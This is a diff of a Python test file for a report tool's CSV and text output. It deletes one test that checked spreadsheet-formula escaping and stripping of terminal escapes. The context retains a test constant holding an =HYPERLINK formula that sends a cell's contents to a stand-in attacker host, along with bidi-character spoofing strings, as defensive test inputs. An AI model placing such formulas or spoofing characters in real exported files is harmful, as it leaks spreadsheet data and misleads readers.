@@ -14,7 +14,6 @@ from fixtures import samples
 from jumbo.archive import credentials
 from jumbo.archive.stores import open_store
 from jumbo.report import cli
-from jumbo.report.render import to_csv, to_text
 
 ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
@@ -73,12 +72,6 @@ def test_text_output_carries_no_control_characters(hostile_store, tmp_path):
     assert all(c == "\n" or ord(c) >= 32 for c in text)
     assert not any(c in BIDI_CHARS for c in text)
     assert "SITE-\\u202eexe.gnp\\u202c\\u2066=" in text and "\\u2067RTL" in text
-
-
-def test_render_functions_neutralise_directly():
-    report_rows = to_csv.__globals__["csv_cell"]
-    assert report_rows("=1+1") == "'=1+1" and report_rows("plain") == "plain"
-    assert to_text.__globals__["text_line"]("a\x1b[2Jb\nc") == "a\\x1b[2Jb\\x0ac"
 
 
 def test_out_never_follows_a_planted_link(hostile_store, tmp_path):
